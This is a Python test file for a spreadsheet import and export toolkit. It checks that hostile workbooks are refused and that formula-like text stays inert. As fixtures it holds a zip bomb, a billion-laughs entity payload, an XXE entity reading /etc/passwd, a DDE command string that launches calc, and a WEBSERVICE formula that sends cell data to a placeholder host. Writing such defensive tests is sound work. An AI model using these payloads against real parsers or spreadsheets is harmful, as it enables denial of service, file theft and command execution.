"""Hostile workbooks: zip bombs, XML entities, a million formatted rows, formulas; and the XLSX we
write never turns text into a formula."""

from __future__ import annotations

import csv
import io
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from fuzz.targets import MINI_SCHEMA, SHEET_SEED, workbook
from toolkit.errors import UsageError
from toolkit.review import importer as spreadsheet
from toolkit.review.importer import import_table

NS = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
HEAD = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    + b"<worksheet "
    + NS
    + b"><sheetData>"
    + b'<row r="1"><c r="A1" t="inlineStr"><is><t>item_id</t></is></c>'
    + b'<c r="B1" t="inlineStr"><is><t>name</t></is></c></row>'
)


@pytest.fixture
def schema(tmp_path: Path) -> Path:
    path = tmp_path / "mini.schema.yaml"
    path.write_text(MINI_SCHEMA, encoding="utf-8")
    return path


def _xlsx(tmp_path: Path, data: bytes, name: str = "in.xlsx") -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


def _import(tmp_path: Path, source: Path, schema: Path) -> spreadsheet.ImportResult:
    return import_table(source, tmp_path / "out.csv", schema=schema, force=True)


def test_a_zip_bomb_is_refused_by_its_ratio(tmp_path: Path, schema: Path) -> None:
    bomb = HEAD + b"<!--" + b" " * (30 * 1024 * 1024) + b"--></sheetData></worksheet>"
    source = _xlsx(tmp_path, workbook(bomb))
    assert source.stat().st_size < 100_000
    with pytest.raises(UsageError) as info:
        _import(tmp_path, source, schema)
    assert "Se rechazó" in info.value.message_es and "Refused" in info.value.message_en
    assert not (tmp_path / "out.csv").exists()


def test_too_many_parts_or_too_many_bytes_are_refused(
    tmp_path: Path, schema: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    many = tmp_path / "many.xlsx"
    with zipfile.ZipFile(many, "w") as archive:
        for i in range(spreadsheet.MAX_ZIP_ENTRIES + 1):
            archive.writestr(f"x/{i}", b"")
    with pytest.raises(UsageError, match="10001"):
        _import(tmp_path, many, schema)
    # The total limit, tried with a lower one: a real 500 MB archive would be slow to make.
    monkeypatch.setattr(spreadsheet, "MAX_UNCOMPRESSED_BYTES", 100_000)
    rows = b"".join(b'<row r="%d"><c r="A%d"><v>%d</v></c></row>' % (i, i, i * 7919) for i in range(2, 5000))
    with pytest.raises(UsageError, match="expand"):
        _import(tmp_path, _xlsx(tmp_path, workbook(HEAD + rows + b"</sheetData></worksheet>")), schema)


def test_a_zip_that_lies_about_its_sizes_is_refused(tmp_path: Path, schema: Path) -> None:
    """The central directory says 1 KB; the data inflates to far more: reading stops at the lie."""
    sheet = HEAD + b"<!--" + b"z" * 2_000_000 + b"--></sheetData></worksheet>"
    data = bytearray(workbook(sheet))
    real = len(sheet).to_bytes(4, "little")
    assert data.count(real) == 2  # the local header and the central directory entry
    data = data.replace(real, (1024).to_bytes(4, "little"))
    with pytest.raises(UsageError) as info:
        _import(tmp_path, _xlsx(tmp_path, bytes(data)), schema)
    assert "xlsx" in info.value.message_en


BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10)
    )
    + b"]><worksheet "
    + NS
    + b'><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is>'
    + b"</c></row></sheetData></worksheet>"
)
XXE = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
    + b"<worksheet "
    + NS
    + b'><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>item_id</t></is></c>'
    + b'</row><row r="2"><c r="A2" t="inlineStr"><is><t>&secret;</t></is></c></row></sheetData></worksheet>'
)


@pytest.mark.parametrize("sheet", [BILLION_LAUGHS, XXE], ids=["billion-laughs", "external-entity"])
def test_xml_entities_are_refused(tmp_path: Path, schema: Path, sheet: bytes) -> None:
    with pytest.raises(UsageError) as info:
        _import(tmp_path, _xlsx(tmp_path, workbook(sheet)), schema)
    assert "declara entidades" in info.value.message_es and "declares entities" in info.value.message_en
    assert not (tmp_path / "out.csv").exists()


def test_entities_in_other_parts_are_refused_too(tmp_path: Path, schema: Path) -> None:
    data = workbook(SHEET_SEED)
    patched = tmp_path / "in.xlsx"
    with zipfile.ZipFile(_xlsx(tmp_path, data, "orig.xlsx")) as src, zipfile.ZipFile(patched, "w") as dst:
        for info in src.infolist():
            body = src.read(info)
            if info.filename == "xl/workbook.xml":
                body = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY e "mini">]>' + body.split(b"?>", 1)[1]
            dst.writestr(info, body)
    with pytest.raises(UsageError, match="entities"):
        _import(tmp_path, patched, schema)


def test_a_million_empty_formatted_rows_finish(tmp_path: Path, schema: Path) -> None:
    data_row = (
        b'<row r="2"><c r="A2" t="inlineStr"><is><t>a-1</t></is></c>'
        b'<c r="B2" t="inlineStr"><is><t>Uno</t></is></c></row>'
    )
    empty = b"".join(
        b'<row r="%d" s="1" customFormat="1"><c r="A%d" s="1"/></row>' % (i, i) for i in range(3, 1_050_000)
    )
    source = _xlsx(tmp_path, workbook(HEAD + data_row + empty + b"</sheetData></worksheet>"))
    result = _import(tmp_path, source, schema)
    rows = list(csv.reader(io.StringIO((tmp_path / "out.csv").read_text(encoding="utf-8"))))
    assert rows[1][:2] == ["a-1", "Uno"] and len(rows) == 2
    stopped = [f for f in result.findings if f.code == "import-stopped"]
    assert len(stopped) == 1 and stopped[0].severity == "warning"
    assert "10000" in stopped[0].message_es


FORMULAS = {
    "B2": ('WEBSERVICE("http://example.org/?"&A2)', "cached"),
    "C2": ("cmd|' /C calc'!A0", "0"),
    "D2": ("1+1", "2"),
}


def test_formulas_are_imported_as_their_text_never_computed(tmp_path: Path, schema: Path) -> None:
    cells = b"".join(
        b'<c r="%s"><f>%s</f><v>%s</v></c>' % (ref.encode(), f.replace("&", "&amp;").encode(), v.encode())
        for ref, (f, v) in FORMULAS.items()
    )
    head = HEAD.replace(
        b"</row>",
        b'<c r="C1" t="inlineStr"><is><t>amount</t></is></c>'
        b'<c r="D1" t="inlineStr"><is><t>count</t></is></c></row>',
        1,
    )
    sheet = head + b'<row r="2"><c r="A2" t="inlineStr"><is><t>a-1</t></is></c>' + cells + b"</row>"
    result = _import(tmp_path, _xlsx(tmp_path, workbook(sheet + b"</sheetData></worksheet>")), schema)
    rows = list(csv.DictReader(io.StringIO((tmp_path / "out.csv").read_text(encoding="utf-8"))))
    assert rows[0]["name"] == "=" + FORMULAS["B2"][0]
    assert rows[0]["amount"] == "=" + FORMULAS["C2"][0]
    assert rows[0]["count"] == "=1+1"
    assert sorted(str(f.column) for f in result.findings if f.code == "import-formula") == ["B", "C", "D"]


DANGEROUS = ["=1+1", "+SUM(A1)", "-2+3", "@SUM(A1)", "\tx", "\rx", "=cmd|' /C calc'!A0", '=HYPERLINK("x")']


def _no_formulas(path: Path, expected: list[str]) -> None:
    wb = openpyxl.load_workbook(path)
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                texts.append(cell.value)
    for value in expected:  # the text is there, as text (control characters aside)
        assert value.strip("\t\r") in {str(t).strip("\t\r") for t in texts if t is not None}, value


def test_the_validation_workbook_keeps_formula_like_text_as_text(tmp_path: Path, schema: Path) -> None:
    from toolkit.review.xlsx_report import write_xlsx_report
    from toolkit.validation.validator import validate

    data = tmp_path / "t.csv"
    with data.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["item_id", "name"])
        writer.writerows([[f"a-{i}", v] for i, v in enumerate(DANGEROUS)])
    report = validate(data, schema=schema)
    _no_formulas(write_xlsx_report(report, tmp_path / "report.xlsx", "es"), DANGEROUS)


def test_the_package_workbook_keeps_formula_like_text_as_text(tmp_path: Path) -> None:
    import datetime as dt

    import yaml

    from toolkit.packaging.formats import table_from_raw, write_xlsx

    schema = yaml.safe_load(MINI_SCHEMA)
    raw = [[f"a-{i}", v, "", "", "", "", ""] for i, v in enumerate(DANGEROUS)]
    table = table_from_raw("items", schema, [f["name"] for f in schema["fields"]], raw)
    out = tmp_path / "p.xlsx"
    write_xlsx(out, [table], {"name": "p", "resources": []}, [], dt.datetime(2026, 1, 1, tzinfo=dt.UTC))
    _no_formulas(out, DANGEROUS)
